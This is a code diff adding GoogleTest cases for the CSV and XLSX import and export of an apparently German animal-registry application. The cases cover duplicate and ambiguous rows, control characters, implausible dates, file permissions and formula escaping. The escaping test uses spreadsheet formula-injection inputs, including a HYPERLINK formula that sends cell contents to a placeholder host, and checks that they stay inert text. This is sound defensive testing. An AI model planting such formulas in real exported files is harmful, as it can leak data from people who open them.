@@ -4,7 +4,10 @@
 #include "engine/cursor.h"
 #include "support/stock_fixture.h"
 
+#include <QDir>
 #include <QFile>
+
+#include <sys/stat.h>
 
 #include <gtest/gtest.h>
 
@@ -134,4 +137,88 @@ TEST(SpreadsheetWriting, AnimalListAsShownGoesToCsvAndXlsx) {
   ASSERT_TRUE(x.open(QIODevice::ReadOnly));
   EXPECT_TRUE(x.read(2) == "PK");  // a zip container
   EXPECT_FALSE(writeXlsx(sheet, out.file(QStringLiteral("fehlt/x.xlsx"))).isEmpty());
+}
+
+TEST(CsvImportCheck, EveryRowIsComparedWithEveryOtherAndParentsMustBeUnambiguous) {
+  test::StockDirectory s;
+  // Three rows of the same tattoos; the second and third share their birth date.
+  const CsvTable t = readCsv(QStringLiteral("Täto rechts;Täto links;Geburtstag;Geschlecht;Mutter Täto rechts;Mutter Täto links\n"
+                                            "K1;3.5.12;01.03.2025;2;;\n"
+                                            "K1;3.5.12;02.03.2025;2;;\n"
+                                            "K1;3.5.12;2025-03-02;2;;\n"
+                                            "J1;4.6.1;01.04.2025;1;K1;3.5.12\n")
+                                 .toUtf8());
+  const CsvImport r = csvToExchange(s.engine, t, guessMapping(t.rows[0]));
+  const QString e = errorsOf(r);
+  EXPECT_TRUE(e.contains(QStringLiteral("4: das Tier steht zweimal in der Datei (auch in Zeile 3)"))) << e.toStdString();
+  EXPECT_FALSE(e.contains(QStringLiteral("3: das Tier"))) << e.toStdString();
+  EXPECT_TRUE(e.contains(QStringLiteral("5: Mutter \"K1  3.5.12\" ist in der Tabelle mehrdeutig (3 Zeilen)"))) << e.toStdString();
+}
+
+TEST(CsvImportCheck, ControlCharactersAndDatesOutsideTheExchangeRuleAreRefused) {
+  test::StockDirectory s;
+  QString text = QStringLiteral("Täto rechts;Täto links;Geburtstag;Geschlecht;Name;Bemerkung\n"
+                                "N%1X;1.1.1;;1;;\n"                // line 2: NUL in a tattoo
+                                "A2;1.1.2;;1;\"Gre\nte\";\n"        // line 3: line break in a name
+                                "A3;1.1.3;0022-01-01;1;;\n"         // line 4: year 22
+                                "A4;1.1.4;31.12.9999;1;;\n"         // line 5: year 9999
+                                "A5;1.1.5;1.3.25;1;Gre\tte;x%1y\n")  // line 6: fine (tab; ignored column)
+                     .arg(QChar(0));
+  const CsvTable t = readCsv(text.toUtf8());
+  ASSERT_EQ(t.rows.size(), 6u);
+  const CsvImport r = csvToExchange(s.engine, t, guessMapping(t.rows[0]));
+  const QString e = errorsOf(r);
+  EXPECT_TRUE(e.contains(QStringLiteral("2: Unzulässiges Steuerzeichen U+0000 in der Spalte \"Täto rechts\""))) << e.toStdString();
+  EXPECT_TRUE(e.contains(QStringLiteral("3: Zeilenumbruch in einem einzeiligen Feld in der Spalte \"Name\""))) << e.toStdString();
+  EXPECT_TRUE(e.contains(QStringLiteral("4: Geburtstag \"0022-01-01\" ist kein Datum"))) << e.toStdString();
+  EXPECT_TRUE(e.contains(QStringLiteral("5: Geburtstag \"31.12.9999\" ist kein Datum"))) << e.toStdString();
+  EXPECT_FALSE(e.contains(QStringLiteral("6:"))) << e.toStdString();
+  EXPECT_EQ(r.file.animals.back().birthDate, QDate(2025, 3, 1));
+}
+
+TEST(SpreadsheetWriting, CellsASpreadsheetWouldTakeAsFormulasStayText) {
+  test::TempDir out;
+  Sheet sheet;
+  sheet.header << QStringLiteral("Wert");
+  const QStringList cells{QStringLiteral("=2*21"), QStringLiteral("=HYPERLINK(\"http://x.invalid/?\"&A1)"),
+                          QStringLiteral("+1+2"),  QStringLiteral("@SUM(A1)"),
+                          QStringLiteral("-x"),    QStringLiteral("\tTab"),
+                          QStringLiteral("\r=1"),  QStringLiteral("-12"),
+                          QStringLiteral("+3,5"),  QStringLiteral("-1.234,56"),
+                          QStringLiteral("A=1"),   QStringLiteral("2-1")};
+  for (const QString& c : cells) sheet.rows.push_back({c});
+  const QString csv = out.file(QStringLiteral("tiere.csv"));
+  ASSERT_EQ(writeCsv(sheet, csv), QString());
+  QFile f(csv);
+  ASSERT_TRUE(f.open(QIODevice::ReadOnly));
+  const CsvTable back = readCsv(f.readAll());
+  ASSERT_EQ(back.rows.size(), cells.size() + 1u);
+  const QStringList expected{QStringLiteral("'=2*21"), QStringLiteral("'=HYPERLINK(\"http://x.invalid/?\"&A1)"),
+                             QStringLiteral("'+1+2"),  QStringLiteral("'@SUM(A1)"),
+                             QStringLiteral("'-x"),    QStringLiteral("'\tTab"),
+                             QStringLiteral("'\r=1"),  QStringLiteral("-12"),
+                             QStringLiteral("+3,5"),   QStringLiteral("-1.234,56"),
+                             QStringLiteral("A=1"),    QStringLiteral("2-1")};
+  for (int i = 0; i < cells.size(); ++i) EXPECT_EQ(back.rows[i + 1].value(0), expected[i]) << i;
+}
+
+TEST(SpreadsheetWriting, CsvAndXlsxBothFollowTheUmask) {
+  test::TempDir out;
+  Sheet sheet;
+  sheet.header << QStringLiteral("A");
+  sheet.rows.push_back({QStringLiteral("1")});
+  const mode_t old = ::umask(027);
+  const QString csv = out.file(QStringLiteral("t.csv"));
+  const QString xlsx = out.file(QStringLiteral("t.xlsx"));
+  const QString csvError = writeCsv(sheet, csv);
+  const QString xlsxError = writeXlsx(sheet, xlsx);
+  ::umask(old);
+  ASSERT_EQ(csvError, QString());
+  ASSERT_EQ(xlsxError, QString());
+  struct stat c {}, x {};
+  ASSERT_EQ(::stat(QFile::encodeName(csv).constData(), &c), 0);
+  ASSERT_EQ(::stat(QFile::encodeName(xlsx).constData(), &x), 0);
+  EXPECT_EQ(c.st_mode & 0777, 0640u);
+  EXPECT_EQ(x.st_mode & 0777, 0640u);
+  EXPECT_EQ(QDir(out.path()).entryList(QDir::Files | QDir::Hidden).size(), 2);  // no temporary left
 }
